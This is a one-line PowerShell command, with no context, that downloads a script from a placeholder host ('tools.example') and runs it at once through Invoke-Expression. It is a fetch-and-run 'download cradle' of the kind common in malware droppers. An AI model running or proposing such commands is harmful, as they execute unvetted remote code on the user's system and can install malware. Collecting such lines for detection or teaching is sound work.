IEX (New-Object Net.WebClient).DownloadString('http://tools.example/setup.ps1')
